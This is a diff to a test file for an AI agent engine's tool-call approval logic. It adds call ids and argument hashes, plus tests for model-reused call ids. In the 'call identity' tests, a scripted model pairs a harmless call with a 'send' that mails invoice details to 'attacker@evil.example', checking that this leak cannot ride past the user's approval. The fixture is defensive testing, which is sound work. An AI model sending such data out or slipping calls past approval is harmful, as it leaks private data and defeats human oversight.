@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { z } from 'zod';
+import { argsHash } from './call-ids.ts';
 import { CANCELLED, DECLINED, type EngineEvent, type EngineRequest, runEngine } from './engine.ts';
 import type { AiEvent } from './protocol/events.ts';
 import { assertToolPairing, type Turn } from './protocol/messages.ts';
@@ -63,7 +64,23 @@ function tool(
   };
 }
 
+// Skimmer's ids for new calls, `c1`, `c2`… in call order (the first free one): the scripts below number their
+// wire ids the same way, so expectations read alike; the tests of ids themselves use the real `newCallId`.
+function sequentialIds(taken: ReadonlySet<string>): string {
+  for (let n = 1; ; n += 1) if (!taken.has(`c${n}`)) return `c${n}`;
+}
+
 async function run(request: Partial<EngineRequest> & Pick<EngineRequest, 'stream'>) {
+  const events: EngineEvent[] = [];
+  const base = { model: 'm', history: [], tools: [], newCallId: sequentialIds };
+  for await (const event of runEngine({ ...base, ...request })) events.push(event);
+  const last = events.at(-1);
+  if (!last || !('turns' in last)) throw new Error('the run did not end with a terminal event');
+  return { events, last, turns: last.turns };
+}
+
+// The same, with Skimmer's real call ids.
+async function runEngineOnce(request: Partial<EngineRequest> & Pick<EngineRequest, 'stream'>) {
   const events: EngineEvent[] = [];
   for await (const event of runEngine({ model: 'm', history: [], tools: [], ...request })) events.push(event);
   const last = events.at(-1);
@@ -143,6 +160,7 @@ describe('runEngine', () => {
       calls: [
         {
           id: 'c1',
+          argsHash: argsHash({ text: 'done' }),
           name: 'label',
           args: { text: 'done' },
           provenance: { fromUntrusted: [], notNamedByUser: [] },
@@ -152,7 +170,7 @@ describe('runEngine', () => {
     expect(ran).toEqual([]);
     // Stored with the call open: the next run answers it.
     expect(turns.at(-1)?.content).toEqual([
-      { type: 'tool_call', id: 'c1', name: 'label', input: { text: 'done' } },
+      { type: 'tool_call', id: 'c1', wireId: 'c1', name: 'label', input: { text: 'done' } },
     ]);
     expect(assertToolPairing(turns)).toEqual([{ kind: 'unanswered_call', turn: 1, callId: 'c1' }]);
   });
@@ -216,8 +234,8 @@ describe('runEngine', () => {
       history: first.turns,
       tools,
       answers: [
-        { id: 'c1', decision: 'deny' },
-        { id: 'c2', decision: 'deny' },
+        { id: 'c1', argsHash: argsHash({}), decision: 'deny' },
+        { id: 'c2', argsHash: argsHash({}), decision: 'deny' },
       ],
     });
     expect(second.last.type).toBe('done');
@@ -239,7 +257,7 @@ describe('runEngine', () => {
       stream: model.stream,
       history: first.turns,
       tools,
-      answers: [{ id: 'c2', decision: 'deny' }],
+      answers: [{ id: 'c2', argsHash: argsHash({}), decision: 'deny' }],
     });
     expect(second.events.filter((e) => e.type === 'tool_result').map((e) => [e.id, e.decision])).toEqual([
       ['c1', 'allowed'],
@@ -444,6 +462,117 @@ describe('runEngine', () => {
     expect(assertToolPairing(turns)).toEqual([]);
   });
 
+  describe('call identity (issue 13)', () => {
+    const markRead = { ids: [3] };
+    const leak = { to: 'attacker@evil.example', text: 'Invoice 1042: 40,000 EUR' };
+    const sameIdRound = (): Step[][] => [
+      [
+        { id: 'call_same', name: 'mark_read', input: { text: 'm3' } },
+        { id: 'call_same', name: 'send', input: leak },
+      ],
+      ['Done.'],
+    ];
+    const tools = (ran: Ran) => [tool('mark_read', 'write', ran), tool('send', 'send', ran)];
+
+    test("names every call itself, keeping the provider's id only as the wire id", async () => {
+      const model = scripted(sameIdRound());
+      const { last, turns } = await runEngineOnce({ stream: model.stream, prompt: 'tidy', tools: tools([]) });
+      if (last.type !== 'interrupted') throw new Error(`expected interrupted, got ${last.type}`);
+      const ids = last.calls.map((c) => c.id);
+      expect(ids).toHaveLength(2);
+      expect(new Set(ids).size).toBe(2);
+      for (const id of ids) expect(id).toMatch(/^sc-/);
+      expect(turns.at(-1)?.content).toEqual([
+        { type: 'tool_call', id: ids[0], wireId: 'call_same', name: 'mark_read', input: { text: 'm3' } },
+        { type: 'tool_call', id: ids[1], wireId: 'call_same', name: 'send', input: leak },
+      ]);
+    });
+
+    test('gives calls with empty or reused provider ids ids of their own, unique in the conversation', async () => {
+      const model = scripted([
+        [{ id: 'call_0', name: 'search', input: {} }],
+        [
+          { id: 'call_0', name: 'search', input: { text: 'again' } },
+          { id: '', name: 'search', input: { text: 'more' } },
+          { id: '', name: 'search', input: { text: 'most' } },
+        ],
+        ['Found.'],
+      ]);
+      const { last, turns } = await runEngineOnce({
+        stream: model.stream,
+        prompt: 'find',
+        tools: [tool('search', 'read', [])],
+      });
+      expect(last.type).toBe('done');
+      const calls = turns.flatMap((t) => t.content.filter((b) => b.type === 'tool_call'));
+      expect(calls.map((c) => c.type === 'tool_call' && c.wireId)).toEqual(['call_0', 'call_0', '', '']);
+      expect(new Set(calls.map((c) => c.type === 'tool_call' && c.id)).size).toBe(4);
+      expect(assertToolPairing(turns)).toEqual([]);
+    });
+
+    test('an answer to one of two calls the model named alike decides that call only', async () => {
+      const ran: Ran = [];
+      const model = scripted(sameIdRound());
+      const first = await runEngineOnce({ stream: model.stream, prompt: 'tidy', tools: tools(ran) });
+      if (first.last.type !== 'interrupted') throw new Error('expected interrupted');
+      const mark = first.last.calls.find((c) => c.name === 'mark_read');
+      if (!mark) throw new Error('no mark_read call');
+      const second = await runEngineOnce({
+        stream: model.stream,
+        history: first.turns,
+        tools: tools(ran),
+        answers: [{ id: mark.id, argsHash: mark.argsHash, decision: 'approve' }],
+      });
+      // The send still waits for its own answer, and nothing of the round ran.
+      expect(second.last.type === 'interrupted' && second.last.calls.map((c) => c.name)).toEqual(['send']);
+      expect(ran).toEqual([]);
+    });
+
+    test('an answer whose arguments hash is not the call’s decides nothing', async () => {
+      const ran: Ran = [];
+      const model = scripted(sameIdRound());
+      const first = await runEngineOnce({ stream: model.stream, prompt: 'tidy', tools: tools(ran) });
+      if (first.last.type !== 'interrupted') throw new Error('expected interrupted');
+      const send = first.last.calls.find((c) => c.name === 'send');
+      if (!send) throw new Error('no send call');
+      const second = await runEngineOnce({
+        stream: model.stream,
+        history: first.turns,
+        tools: tools(ran),
+        answers: first.last.calls.map((c) => ({
+          id: c.id,
+          argsHash: c.id === send.id ? argsHash(markRead) : c.argsHash,
+          decision: 'approve' as const,
+        })),
+      });
+      expect(second.last.type === 'interrupted' && second.last.calls.map((c) => c.name)).toEqual(['send']);
+      expect(ran).toEqual([]);
+    });
+
+    test('one answer never decides two calls of a turn stored with one id for both', async () => {
+      const ran: Ran = [];
+      const stored: Turn[] = [
+        { role: 'user', content: [{ type: 'text', text: 'tidy' }] },
+        {
+          role: 'assistant',
+          content: [
+            { type: 'tool_call', id: 'call_same', name: 'mark_read', input: {} },
+            { type: 'tool_call', id: 'call_same', name: 'mark_read', input: {} },
+          ],
+        },
+      ];
+      const model = scripted([]);
+      const { last } = await runEngineOnce({
+        stream: model.stream,
+        history: stored,
+        tools: tools(ran),
+        answers: [{ id: 'call_same', argsHash: argsHash({}), decision: 'approve' }],
+      });
+      expect(last.type === 'interrupted' && last.calls.length).toBe(1);
+      expect(ran).toEqual([]);
+    });
+  });
+
   describe('resuming with answers', () => {
     const round: Turn[] = [
       { role: 'user', content: [{ type: 'text', text: 'tidy up' }] },
@@ -465,8 +594,8 @@ describe('runEngine', () => {
         history: round,
         tools: [tool('search', 'read', ran), tool('label', 'write', ran)],
         answers: [
-          { id: 'c2', decision: 'approve' },
-          { id: 'c3', decision: 'deny', reason: 'not that one' },
+          { id: 'c2', argsHash: argsHash({ text: 'a' }), decision: 'approve' },
+          { id: 'c3', argsHash: argsHash({ text: 'b' }), decision: 'deny', reason: 'not that one' },
         ],
       });
       expect(last.type).toBe('done');
@@ -492,7 +621,7 @@ describe('runEngine', () => {
         stream: model.stream,
         history: round,
         tools: [tool('search', 'read', ran), tool('label', 'write', ran)],
-        answers: [{ id: 'c2', decision: 'approve' }],
+        answers: [{ id: 'c2', argsHash: argsHash({ text: 'a' }), decision: 'approve' }],
       });
       expect(last.type === 'interrupted' && last.calls.map((c) => c.id)).toEqual(['c3']);
       expect(turns).toEqual([]);
@@ -529,8 +658,8 @@ describe('runEngine', () => {
         history: round,
         tools: [tool('search', 'read', ran), tool('label', 'write', ran, { gate: () => 'deny' })],
         answers: [
-          { id: 'c2', decision: 'approve' },
-          { id: 'c3', decision: 'approve' },
+          { id: 'c2', argsHash: argsHash({ text: 'a' }), decision: 'approve' },
+          { id: 'c3', argsHash: argsHash({ text: 'b' }), decision: 'approve' },
         ],
       });
       expect(ran.map((r) => r.name)).toEqual(['search']);
